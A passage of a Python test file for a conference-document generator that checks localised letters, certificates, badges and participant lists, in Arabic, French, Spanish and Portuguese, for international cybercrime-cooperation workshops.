    hybrid = attrs.evolve(event, venue=attrs.evolve(event.venue, mode="hybrid"))
    named = confdocs.prepare_view(hybrid, {"locale": "en_GB"}, registrations=registrations)
    assert "held in The Hague, Netherlands" in named.letters[0].invitation.plain


def test_each_certificate_page_of_the_word_file_is_in_its_language(built: dict[str, bytes]) -> None:
    """Word spell-checks each certificate in its participant's language: the runs of Mariana
    SOSA's page say es-AR, Nelson SEMEDO's pt-CV; Marc WEBER's, in the document's English,
    say nothing of their own (the document's default is en-GB)."""
    from docx.oxml.ns import qn

    document = docx.Document(io.BytesIO(built["certificates"]))
    default = document.styles.element.find(
        f"{qn('w:docDefaults')}/{qn('w:rPrDefault')}/{qn('w:rPr')}/{qn('w:lang')}"
    )
    assert default.get(qn("w:val")) == "en-GB"

    def languages_of(name: str) -> set[str | None]:
        [paragraph] = [p for p in document.paragraphs if name in p.text]
        found = set()
        for run in paragraph.runs:
            lang = run._r.find(f"{qn('w:rPr')}/{qn('w:lang')}")
            found.add(None if lang is None else lang.get(qn("w:val")))
        return found

    assert languages_of("Mariana SOSA") == {"es-AR"}  # from Argentina: its Spanish
    assert languages_of("Nelson SEMEDO") == {"pt-CV"}
    assert languages_of("Marc WEBER") == {None}


def test_a_letter_invites_an_organisation_as_a_sentence_says_it(tmp_path: Path) -> None:
    """An organisation's `called` (its name with its article) in the letter's sentence, with
    Spanish's "a el" as "al"; the address keeps its name; without it, the name."""
    hague = confdocs.load_event(ROOT / "examples" / "hague-2019" / "event.yaml")
    europol = hague.index.organisations["europol"]
    organisations = tuple(
        attrs.evolve(o, called="el Centro Europeo de Ciberdelincuencia de Europol")
        if o.id == "europol"
        else o
        for o in hague.organisations
    )
    spanish = attrs.evolve(
        hague,
        organisations=organisations,
        settings=attrs.evolve(hague.settings, locale="es"),
    )
    letters = {letter.id: letter for letter in confdocs.make_view(spanish).letters}
    [to_europol] = [x for x in letters.values() if x.addressee == europol.name]
    assert "invitar al Centro Europeo de Ciberdelincuencia de Europol a participar" in (
        to_europol.invitation.plain
    )
    assert to_europol.address[0] == europol.name
    # A country's letter, and an organisation without `called`, as before.
    assert "invitar a sus autoridades competentes" in letters["AR"].invitation.plain
    english = {x.id: x for x in confdocs.make_view(hague).letters}
    assert f"inviting {europol.name} to take part" in english[to_europol.id].invitation.plain
    # `called` is in the event's language: a letter in another says the name.
    in_english = confdocs.make_view(attrs.evolve(spanish, settings=hague.settings), "fr")
    [to_europol_fr] = [x for x in in_english.letters if x.addressee == europol.name]
    assert f"d’inviter {europol.name} à participer" in to_europol_fr.invitation.plain


def test_the_days_of_a_month_from_the_first_name_it_once_in_french() -> None:
    """"les 1er et 3 mai 2027", not "les 1er mai 2027 et 3 mai 2027"."""
    import datetime as dt

    from confdocs.view.composer import Composer
    from confdocs.view.labels import Labels
    from confdocs.view.registrants import _attended_words

    hague = confdocs.load_event(ROOT / "examples" / "hague-2019" / "event.yaml")
    c = Composer(hague, "fr", Labels("fr"))
    _, words = _attended_words(c, "certificate_days", [dt.date(2027, 5, 1), dt.date(2027, 5, 3)])
    assert words.plain == "1er et 3 mai 2027"


def test_the_participant_list_says_who_follows_online(tmp_path: Path) -> None:
    """Beside the name, in the Word list and the web page: a hybrid event's organiser sees
    who is in the room (a trial's list did not say)."""
    csv_file = tmp_path / "registrations.csv"
    csv_file.write_text(
        "name,email,country,group,role,organisation,attendance,consent\n"
        "Mariana Sosa,m@x.example,AR,glacy-plus,prosecutor,,,yes\n"
        "Ana Ruiz,a@x.example,AR,glacy-plus,law-enforcement,,online,yes\n",
        encoding="utf-8",
    )
    event = confdocs.load_event(ROOT / "examples" / "hague-2019" / "event.yaml")
    groups = tuple(
        attrs.evolve(g, online_seats_per_country=1) if g.id == "glacy-plus" else g
        for g in event.participants.groups
    )
    event = attrs.evolve(event, participants=attrs.evolve(event.participants, groups=groups))
    registrations = confdocs.load_registrations(csv_file)
    built = confdocs.build(
        event, ["participant-list", "participant-list-html"], registrations=registrations
    )
    data = {d.format: d.data for d in built.documents}
    names = [
        row.cells[1].text
        for table in docx.Document(io.BytesIO(data["participant-list"])).tables
        for row in table.rows
    ]
    assert "Ana Ruiz (online)" in names and "Mariana Sosa" in names
    page = data["participant-list-html"].decode("utf-8")
    assert 'Ana Ruiz <span class="attendance">(online)</span>' in page
    assert "Mariana Sosa <span" not in page


def test_arabic_documents_join_with_the_arabic_comma(tmp_path: Path) -> None:
    """The badges, the attendance sheets and the participant list wrote the dates and the
    place with a Latin comma ("18–20 نوفمبر 2025, تونس"), and the letters an organisation's
    city and country ("فيينا, النمسا"), where the outline wrote "،" (a trial's organiser)."""
    tunis = ROOT / "examples" / "tunis-2025"
    event = confdocs.load_event(tunis / "event.yaml")
    registrations = confdocs.load_registrations(tunis / "registrations.csv")
    formats = ["badges", "sign-in-pdf", "participant-list", "participant-list-html", "letters"]
    built = confdocs.build(event, formats, {"locale": "ar"}, registrations=registrations)
    data = {d.format: d.data for d in built.documents}
    line = "18–20 نوفمبر 2025، تونس، تونس"
    page = data["participant-list-html"].decode("utf-8")
    assert f'<p class="dates">{line}</p>' in page
    assert line in "\n".join(docx_pages(data["participant-list"]))
    letters = "\n".join(docx_pages(data["letters"]))
    assert "فيينا، النمسا" in letters and "فيينا, النمسا" not in letters
    for name in ("badges", "sign-in-pdf"):
        text = " ".join(pdf_pages(data[name], tmp_path))
        assert "2025 ," not in text and ", 2025" not in text and "،2025" in text, name


def test_each_certificates_letterhead_is_in_its_language(tmp_path: Path) -> None:
    """An Arabic certificate of a French build kept the French funders' lines over it, and a
    French one of an Arabic build the Arabic ones (a trial's Tunis workshop)."""
    tunis = ROOT / "examples" / "tunis-2025"
    rows = (tunis / "registrations.csv").read_text("utf-8").splitlines()[:3]
    csv_file = tmp_path / "registrations.csv"
    csv_file.write_text(
        "\n".join(
            [
                rows[0] + ",language,attended",
                rows[1] + ",ar,2025-11-18",
                rows[2] + ",fr,2025-11-18",
            ]
        )
        + "\n",
        encoding="utf-8",
    )
    event = confdocs.load_event(tunis / "event.yaml")
    registrations = confdocs.load_registrations(csv_file)
    for locale in ("fr", "ar"):
        options = {"locale": locale}
        built = confdocs.build(event, ["certificates-pdf"], options, registrations=registrations)
        [document] = built.documents
        arabic, french = pdf_pages(document.data, tmp_path)
        assert "بتمويل من الاتحاد الأوروبي ومجلس أوروبا" in arabic.replace("بتمو يل", "بتمويل")
        assert "Financé par" not in arabic and "Mis en œuvre" not in arabic
        assert "Financé par l’Union européenne et le Conseil de l’Europe" in french
        assert "تنفيذ مجلس أوروبا" not in french


def test_a_latin_name_in_an_arabic_word_document_is_aligned_as_the_arabic_lines(
    tmp_path: Path,
) -> None:
    """A name that starts and ends with a Latin letter reads the same in a right-to-left
    paragraph: it keeps the document's direction, right-aligned under its Arabic position (a
    trial's signature sat at the left margin); prose ending in a full stop still runs left to
    right (tests/test_directions.py)."""
    tunis = ROOT / "examples" / "tunis-2025"
    event = confdocs.load_event(tunis / "event.yaml")
    built = confdocs.build(event, ["letters", "docx"], {"locale": "ar"})
    for document in built.documents:
        body = docx.Document(io.BytesIO(document.data)).element.body
        names = [
            p
            for p in body.iter(f"{W}p")
            if "".join(t.text or "" for t in p.iter(f"{W}t")) == "Claire DUBOIS"
        ]
        assert names, document.format
        for paragraph in names:
            bidi = paragraph.find(f"{W}pPr/{W}bidi")
            assert bidi is None or bidi.get(f"{W}val") not in ("0", "false"), document.format


def test_a_letter_says_the_days_as_a_sentence_does(tmp_path: Path) -> None:
    """The invitation said "(9–10 juin 2027)", and a body's "du {dates}" gave "du 9–10 juin
    2027" (a trial's French letters): `{when}` is the days with their preposition, and the
    built-in sentence uses it."""
    event = confdocs.load_event(ROOT / "examples" / "tunis-2025" / "event.yaml")
    body = "La réunion se tiendra à {place}, {when} ({dates})."
    event = attrs.evolve(event, letters=attrs.evolve(event.letters, body=body))
    [letters] = confdocs.build(event, ["letters"]).documents
    text = "\n".join(docx_pages(letters.data))
    assert "qui se tiendra à Tunis, Tunisie, du 18 au 20 novembre 2025." in text
    assert "La réunion se tiendra à Tunis, Tunisie, du 18 au 20 novembre 2025 (18–20 novembre" in text
    hague = confdocs.load_event(HAGUE)
    for locale, said in [
        ("es", "Países Bajos, del 30 de septiembre al 1 de octubre de 2019."),
        ("fr", "Pays-Bas, du 30 septembre au 1er octobre 2019."),
    ]:
        [document] = confdocs.build(hague, ["letters"], {"locale": locale}).documents
        assert said in "\n".join(docx_pages(document.data)), locale
    two_days = attrs.evolve(event, end=event.start + dt.timedelta(days=1))
    two_days = attrs.evolve(two_days, letters=attrs.evolve(event.letters, body=None))
    [document] = confdocs.build(two_days, ["letters"]).documents
    assert "se tiendra à Tunis, Tunisie, les 18 et 19 novembre 2025." in docx_pages(document.data)[0]


def test_a_name_in_another_script_gives_its_files_a_readable_id(tmp_path: Path) -> None:
    """Each file of --each is named by the participant's id: a name in Arabic letters made
    "participant", "participant-2" … whose files said nothing of whose they were (a trial)."""
    csv_file = tmp_path / "registrations.csv"
    csv_file.write_text(
        "name,email,country,group,role,organisation,attendance\n"
        "سلمى الطرابلسي,s@x.example,TN,cybersouth,prosecutor,Ministère,\n"
        "Олена Коваленко,o@x.example,DZ,cybersouth,prosecutor,Parquet,\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    done = confdocs_cli(
        "build", str(ROOT / "examples" / "tunis-2025" / "event.yaml"), "-r", str(csv_file),
        "-f", "badges", "--each", "-o", str(out),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.iterdir()) == [
        "tunis-2025.olena-kovalenko.badges.pdf",
        "tunis-2025.slma-ltrblsy.badges.pdf",
    ]


def test_a_womans_arabic_certificate_says_she_attended(tmp_path: Path) -> None:
    """"قد حضر" (he attended) for every participant, women included (a trial): a `gender`
    column makes the wording agree; without it, or for a man, the wording stays."""
    csv_file = tmp_path / "registrations.csv"
    csv_file.write_text(
        "name,email,country,group,role,organisation,language,attended,gender\n"
        "سلمى الطرابلسي,s@x.example,TN,cybersouth,prosecutor,M,ar,2025-11-18 2025-11-19 "
        "2025-11-20,أنثى\n"
        "كريم حداد,k@x.example,TN,cybersouth,law-enforcement,M,ar,2025-11-18,male\n"
        "ليلى بن صالح,l@x.example,DZ,cybersouth,prosecutor,M,ar,2025-11-19,\n",
        encoding="utf-8",
    )
    event = confdocs.load_event(ROOT / "examples" / "tunis-2025" / "event.yaml")
    registrations = confdocs.load_registrations(csv_file)
    assert [r.gender for r in registrations.rows] == ["female", "male", None]
    view = confdocs.make_view(event, registrations=registrations)
    assert view.registrants is not None
    said = {c.name: c.statement.plain for c in view.registrants.certificates}
    salma, karim, leila = said.values()
    assert salma.startswith("قد حضرت فعالية")
    assert karim.startswith("قد حضر يوم") and leila.startswith("قد حضر يوم")
    # A value the wording cannot agree with keeps it neutral: a warning at its row, never a
    # row refused (a review: "non-binary" stopped the whole build); x says it is wanted.
    other = tmp_path / "other.csv"
    text = csv_file.read_text("utf-8").replace(",male\n", ",mâle\n")
    text = text.replace("2025-11-19,\n", "2025-11-19,x\n")
    other.write_text(text, encoding="utf-8")
    registrations = confdocs.load_registrations(other)
    findings = confdocs.check(event, registrations)
    [warning] = [f for f in findings if f.code == "registrations.gender-unknown"]
    assert warning.path == "registrations[1].gender" and "'mâle'" in warning.message
    view = confdocs.make_view(event, registrations=registrations)
    assert view.registrants is not None
    assert [c.registrant.gender for c in view.registrants.certificates] == ["female", None, None]


@pytest.mark.parametrize(("locale", "side"), [("ar", "right"), ("fr", "left")])
def test_a_badges_title_band_starts_where_its_language_starts(
    tmp_path: Path, locale: str, side: str
) -> None:
    """The band's title sat at the left of an Arabic badge (a trial): it starts at the right
    in a right-to-left language."""
    require_tool("pdftotext")
    tunis = ROOT / "examples" / "tunis-2025"
    event = confdocs.load_event(tunis / "event.yaml")
    registrations = confdocs.load_registrations(tunis / "registrations.csv")
    [badges] = confdocs.build(
        event, ["badges"], {"locale": locale}, registrations=registrations
    ).documents
    pdf = tmp_path / "badges.pdf"
    pdf.write_bytes(badges.data)
    boxes = subprocess.run(
        ["pdftotext", "-bbox", "-f", "1", "-l", "1", str(pdf), "-"],
        capture_output=True, check=True, text=True,
    ).stdout  # fmt: skip
    words = [
        (float(m["x0"]), float(m["x1"]), float(m["y0"]))
        for m in re.finditer(
            r'<word xMin="(?P<x0>[\d.]+)" yMin="(?P<y0>[\d.]+)" xMax="(?P<x1>[\d.]+)"', boxes
        )
    ]
    mm = 72 / 25.4
    left_edge, band_bottom = (210 - 2 * 90) / 2 * mm, (297 - 4 * 60) / 2 * mm + 13 * mm
    band = [(x0, x1) for x0, x1, y0 in words if y0 < band_bottom and x1 < left_edge + 90 * mm]
    start, end = min(x0 for x0, _ in band), max(x1 for _, x1 in band)
    before, after = start - left_edge, left_edge + 90 * mm - end
    assert (after < before) if side == "right" else (before < after), (before, after)


def test_an_organisation_column_that_names_an_organisation_by_id_shows_its_name(
    hague: tuple[Any, Any],
) -> None:
    """The Santo Domingo trial wrote "oea" and "unodc" in the organisation column: the list
    printed the ids where the badges printed the names. An id of the event's organisations is
    its name everywhere; any other text is printed as written."""
    event, _ = hague
    regs = confdocs.Registrations("r.csv", (
        confdocs.Registration(
            name="Ana Lima", email="a@x.example", group="europol", organisation="unodc",
            consent=True,
        ),
        confdocs.Registration(
            name="Juan Ruiz", email="j@x.example", group="europol", organisation="UNODC Brazil",
            consent=True,
        ),
    ))  # fmt: skip
    name = event.organisation("unodc").name
    assert name != "unodc"
    result = confdocs.build(
        event, ["participant-list-html", "badges-csv"], registrations=regs
    )
    assert result.ok, result.failures
    data = {doc.format: doc.data for doc in result.documents}
    listed = html_text(data["participant-list-html"])
    assert name in listed and "UNODC Brazil" in listed
    assert not re.search(r"\bunodc\b", listed)
    rows = list(csv.DictReader(io.StringIO(data["badges-csv"].decode("utf-8-sig"))))
    assert [r["organisation"] for r in rows] == [name, "UNODC Brazil"]
